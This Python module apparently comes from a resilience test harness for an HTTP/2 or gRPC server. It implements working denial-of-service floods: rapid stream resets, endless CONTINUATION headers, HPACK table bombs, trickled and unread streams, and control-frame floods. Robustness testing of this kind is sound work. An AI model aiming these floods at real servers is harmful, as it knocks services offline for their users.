"""Programs that send what HTTP/2 allows a little of, without end. Each lasts some seconds."""

from __future__ import annotations

import contextlib
import random
import socket
import struct
import time
from typing import TYPE_CHECKING, Any

from attacks import never_read
from raw_http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    RawConnection,
    call_headers,
    frame,
    grpc_message,
    header,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    Program = Callable[[RawConnection], None]

FLOOD_SECONDS = 2.0
_SEND_SECONDS = 2.0
_BATCH = 200
_PRIORITY = 2
_INITIAL_WINDOW_SIZE = 4
_WINDOW_MAX = 2**31 - 1
_CANCEL = struct.pack(">I", 8)
_CLAIMED_BYTES = 4 << 20
_STREAMS = 64
_BLOCK_BYTES = 16_000
_TABLE_ENTRY = 62  # The newest one of the table that headers are kept in.


class SilentConnection(RawConnection):
    """A connection that has not even sent its preface."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=_SEND_SECONDS)


def flood(batches: Callable[[], Iterator[bytes]]) -> Program:
    """Sends batches of bytes until the time is over, or the server takes no more."""

    def program(connection: RawConnection) -> None:
        connection.socket.settimeout(_SEND_SECONDS)
        until_seconds = time.monotonic() + FLOOD_SECONDS
        with contextlib.suppress(TimeoutError):
            for batch in batches():
                if time.monotonic() > until_seconds:
                    return
                connection.socket.sendall(batch)

    return program


def _again(*frames: bytes) -> Callable[[], Iterator[bytes]]:
    def batches() -> Iterator[bytes]:
        while True:
            yield b"".join(frames) * _BATCH

    return batches


def resets(path: str) -> Program:
    """Begins calls and resets them at once."""

    def batches() -> Iterator[bytes]:
        headers = call_headers(path)
        for first in range(1, 1 << 30, 2 * _BATCH):
            streams = range(first, first + 2 * _BATCH, 2)
            yield b"".join(
                frame(HEADERS, END_HEADERS, each, headers) + frame(RST_STREAM, 0, each, _CANCEL)
                for each in streams
            )

    return flood(batches)


def endless_headers(path: str, part: bytes) -> Program:
    """Begins headers, and goes on with `part` of them."""

    def batches() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, call_headers(path))
        while True:
            yield frame(CONTINUATION, 0, 1, part)

    return flood(batches)


def header_bombs(path: str) -> Program:
    """Names a large header of the table again and again: a byte each."""

    def batches() -> Iterator[bytes]:
        value = b"x" * 4000
        length = bytes([0x7F]) + bytes([(4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7])
        kept = b"\x40\x01a" + length + value
        block = call_headers(path) + kept + bytes([0x80 | _TABLE_ENTRY]) * _BLOCK_BYTES
        for stream in range(1, 1 << 30, 2):
            yield frame(HEADERS, 0, stream, block[:16_384]) + frame(
                CONTINUATION, END_HEADERS, stream, block[16_384:]
            )

    return flood(batches)


def trickled(path: str, claimed: int) -> Program:
    """Begins messages of `claimed` bytes in many calls, and sends a little of each."""

    def batches() -> Iterator[bytes]:
        streams = range(1, 2 * _STREAMS, 2)
        headers = call_headers(path)
        prefix = struct.pack(">BI", 0, claimed)
        yield b"".join(
            frame(HEADERS, END_HEADERS, each, headers) + frame(DATA, 0, each, prefix)
            for each in streams
        )
        while True:
            yield b"".join(frame(DATA, 0, each, b"x") for each in streams)
            time.sleep(0.05)

    return flood(batches)


def unread_answers(path: str, message: bytes, *, reads: int) -> Program:
    """Opens its windows, asks for answers, and reads `reads` bytes at a time of them, slowly."""
    ask = never_read(path, message, 100)

    def program(connection: RawConnection) -> None:
        connection.socket.settimeout(_SEND_SECONDS)
        connection.send(
            frame(SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, _WINDOW_MAX)),
            frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", _WINDOW_MAX - 65_535)),
        )
        ask(connection)
        until_seconds = time.monotonic() + FLOOD_SECONDS
        while time.monotonic() < until_seconds:
            if reads:
                connection.socket.recv(reads)
            time.sleep(0.02)

    return program


def garbage() -> Program:
    """Sends random bytes behind the preface."""

    def batches() -> Iterator[bytes]:
        chance = random.Random(1)
        while True:
            yield chance.randbytes(10_000)

    return flood(batches)


def silence(_: RawConnection) -> None:
    """Sends nothing."""


def programs(path: str, question: bytes) -> dict[str, Program]:
    """All floods, by name. `question` is a message for `path` that has a large answer."""
    setting = frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096))
    small_headers = b"".join(header(f"h{each}", "") for each in range(1000))
    begun = frame(HEADERS, END_HEADERS, 1, call_headers(path))
    empty = _again(frame(DATA, 0, 1))
    tiny = _again(frame(DATA, 0, 1, grpc_message(b"")))

    def after_headers(batches: Callable[[], Iterator[bytes]]) -> Program:
        def program(connection: RawConnection) -> None:
            connection.send(begun)
            flood(batches)(connection)

        return program

    return {
        "calls are reset": resets(path),
        "headers do not end": endless_headers(path, header("a", "x" * 100) * 100),
        "small headers do not end": endless_headers(path, small_headers[:_BLOCK_BYTES]),
        "headers expand": header_bombs(path),
        "messages are trickled": trickled(path, _CLAIMED_BYTES),
        "answers are not read": unread_answers(path, question, reads=0),
        "answers are read slowly": unread_answers(path, question, reads=100),
        "pings": flood(_again(frame(PING, 0, 0, bytes(8)))),
        "answers to pings": flood(_again(frame(PING, ACK, 0, bytes(8)))),
        "settings": flood(_again(setting)),
        "empty settings": flood(_again(frame(SETTINGS, 0, 0))),
        "windows": flood(_again(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))),
        "priorities": flood(_again(frame(_PRIORITY, 0, 1, struct.pack(">IB", 0, 1)))),
        "unknown frames": flood(_again(frame(200, 0, 0, bytes(100)))),
        "empty parts of messages": after_headers(empty),
        "messages of a call with one": after_headers(tiny),
        "garbage": garbage(),
        "silence": silence,
    }


def connect(name: str) -> Callable[[str], Any]:
    """How the program of this name connects."""
    return SilentConnection if name == "silence" else RawConnection
